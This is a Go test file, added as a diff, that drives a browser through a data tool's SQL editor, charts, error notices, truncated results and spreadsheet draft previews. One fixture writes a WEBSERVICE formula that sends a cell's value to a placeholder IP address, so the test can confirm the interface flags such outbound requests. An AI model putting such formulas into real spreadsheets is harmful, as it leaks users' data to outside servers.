@@ -1,0 +1,152 @@
+package cli
+
+import (
+	"fmt"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/agnes-data/da/internal/testneed"
+)
+
+// gridText is the rows that are shown, a line for each.
+const gridText = `[...document.querySelectorAll(".grid .grid-row")].map(r => [...r.querySelectorAll("[role=cell]")].map(c => c.innerText).join(" ")).join("\n")`
+
+// runs puts a statement into the editor and runs it.
+func (b *tab) runs(sql string) {
+	b.t.Helper()
+	js[bool](b, fmt.Sprintf(`sessionStorage.setItem("da.draft", %q), true`, sql))
+	b.opensSQL()
+	b.press("Run")
+}
+
+// TestOneResultAfterAnotherInABrowser holds that order, filter and chart of a
+// result end with it, and that a result outlives a look elsewhere.
+func TestOneResultAfterAnotherInABrowser(t *testing.T) {
+	testneed.Program(t, "chromium")
+	p := newPlace(t)
+	address, code, _ := openPage(t, p)
+	b := openTab(t, address+"/")
+	b.visit("/#code=" + code)
+	b.sees("airports")
+	b.runs("SELECT * FROM (VALUES ('b', 1, 5), ('a', 2, 7), ('a', 3, -9)) v(name, n, k), (SELECT iata FROM airports LIMIT 1) ORDER BY n")
+	b.until(`document.querySelector(".grid button")`)
+	js[bool](b, `[...document.querySelectorAll(".grid button")].find(c => c.innerText.startsWith("name")).click(), true`)
+	b.until(gridText + `.startsWith("a 2")`)
+	// Rows of one name are not added up unasked.
+	b.press("Chart")
+	b.until(`document.querySelector(".canvas canvas")`)
+	b.until(`document.querySelector(".canvas").getAttribute("aria-label") === "bar chart of mean of n by name"`)
+	b.check("chart-of-means")
+
+	// The same page goes on with another statement.
+	const next = "SELECT 'z' AS word, 1 AS n FROM airports UNION ALL SELECT 'y', 0 FROM airports ORDER BY n DESC LIMIT 1"
+	js[bool](b, fmt.Sprintf(`sessionStorage.setItem("da.draft", %q), location.hash = "#/tables", true`, next))
+	b.sees("airports")
+	js[bool](b, `location.hash = "#/sql", true`)
+	b.until(`document.querySelector(".editor")?.shadowRoot?.querySelector(".cm-content")`)
+	b.sees("What is below is of another statement") // the rows are there still
+	b.until(gridText + `.includes("b 1")`)
+	b.press("Run")
+	b.until(gridText + `.startsWith("z 1")`)
+	if text := js[string](b, "document.body.innerText"); strings.Contains(text, "another statement") || strings.Contains(text, "TypeError") {
+		t.Errorf("after the second statement:\n%s", text)
+	}
+	b.press("Chart")
+	b.until(`document.querySelector(".canvas canvas")`)
+	for _, fault := range js[[]string](b, "window.faults") {
+		t.Error(fault)
+	}
+
+	// A mistake is shown at its place.
+	b.runs("SELECT iata FROM airports WHERE AND 1")
+	b.until(`document.querySelector(".pointer mark")?.innerText`)
+	b.check("sql-mistake")
+}
+
+// TestUnknownNamesHereInABrowser holds that the page says what a name is missing
+// for, and the way on.
+func TestUnknownNamesHereInABrowser(t *testing.T) {
+	testneed.Program(t, "chromium")
+	p := newPlace(t)
+	p.ok("fetch", "airports", "--as", "mine")
+	address, code, _ := openPage(t, p)
+	b := openTab(t, address+"/")
+	b.visit("/#code=" + code)
+	b.sees("airports")
+	js[bool](b, `sessionStorage.setItem("da.draft", "SELECT count(*) AS n FROM airports"), true`)
+	b.visit("/#/sql?at=here") // the place is in the address
+	b.until(`document.querySelector(".editor")?.shadowRoot?.querySelector(".cm-content") && document.querySelector("[aria-label='Where it runs']")`)
+	b.press("Run")
+	b.until(`document.querySelector(".notice.bad")`)
+	if text := js[string](b, `document.querySelector(".notice.bad").innerText`); !strings.Contains(text, "airports") || strings.Contains(text, "Internal error") {
+		t.Errorf("an unknown name: %s", text)
+	}
+	b.check("here-unknown")
+	js[bool](b, `document.querySelector(".notice.bad button").click(), true`)
+	b.sees("1 row")
+	if at := js[string](b, "location.hash"); !strings.Contains(at, "at=fetch") {
+		t.Errorf("the place is not in the address: %s", at)
+	}
+}
+
+// TestCutResultsInABrowser holds that a result of which a limit left nothing is not
+// called one that nothing matched.
+func TestCutResultsInABrowser(t *testing.T) {
+	testneed.Program(t, "chromium")
+	p := newPlace(t)
+	instance := filepath.Join(p.dir, "cut.yaml")
+	if err := os.WriteFile(filepath.Join(p.dir, "wide.csv"), []byte("id,name\n1,"+strings.Repeat("x", 200)+"\n2,"+strings.Repeat("y", 200)+"\n"), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	text := fmt.Sprintf("server: { state_dir: %q }\napi: { scan: { max_result_bytes: 100 } }\nsources:\n  files: { type: lake, root: %q }\ntables:\n  - { id: wide, source: files, path: wide.csv, public: true }\n",
+		filepath.Join(p.dir, "cut-state"), p.dir)
+	if err := os.WriteFile(instance, []byte(text), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	address, code, _ := openPage(t, p.with("DA_INSTANCE="+instance))
+	b := openTab(t, address+"/")
+	b.visit("/#code=" + code)
+	b.sees("wide")
+	b.runs("SELECT * FROM wide")
+	b.until(`document.querySelector(".notice, .empty")`)
+	if text := js[string](b, "document.body.innerText"); strings.Contains(text, "nothing matched") {
+		t.Errorf("a result that was cut:\n%s", text)
+	}
+	b.check("cut")
+}
+
+// TestDraftOfAWorkbookInABrowser holds that people see cells, formulas and what
+// they do, and no bytes.
+func TestDraftOfAWorkbookInABrowser(t *testing.T) {
+	testneed.Program(t, "chromium")
+	p := newPlace(t)
+	p.ok("files", "edit", "book.xlsx", "--create", "--operations", `[{"op":"set_range","values":[["item","price"],["a",1.5]]}]`)
+	p.ok("files", "edit", "book.xlsx", "--draft", "d", "--operations",
+		`[{"op":"set_cells","cells":[{"cell":"B2","value":100},{"cell":"C2","formula":"WEBSERVICE(\"http://192.0.2.1/?\"&B2)"}]},{"op":"set_format","range":"A1:B1","format":{"bold":true}}]`)
+	latin := filepath.Join(p.dir, "latin.csv")
+	for _, version := range []struct {
+		text string
+		more []string
+	}{{"name;x\nM\xfcller;1\n", nil}, {"name;x\nM\xfcller;2\n", []string{"--draft", "d"}}} {
+		if err := os.WriteFile(latin, []byte(version.text), 0o600); err != nil {
+			t.Fatal(err)
+		}
+		p.ok(append([]string{"files", "put", latin}, version.more...)...)
+	}
+	address, code, _ := openPage(t, p)
+	b := openTab(t, address+"/")
+	b.visit("/#code=" + code)
+	b.sees("airports")
+	b.visit("/#/files")
+	for _, text := range []string{"Sheet1!B2", "1.5", `=WEBSERVICE("http://192.0.2.1/?"&B2)`, "may send a request to a server", "format of Sheet1!A1", "bold", "Müller;2"} {
+		b.sees(text)
+	}
+	if text := js[string](b, "document.body.innerText"); strings.Contains(text, "PK\x03") || strings.Contains(text, "�") {
+		t.Errorf("bytes are shown:\n%s", text)
+	}
+	b.check("files-workbook")
+	b.press("Apply")
+	b.until(`!document.querySelector(".draft")`)
+}
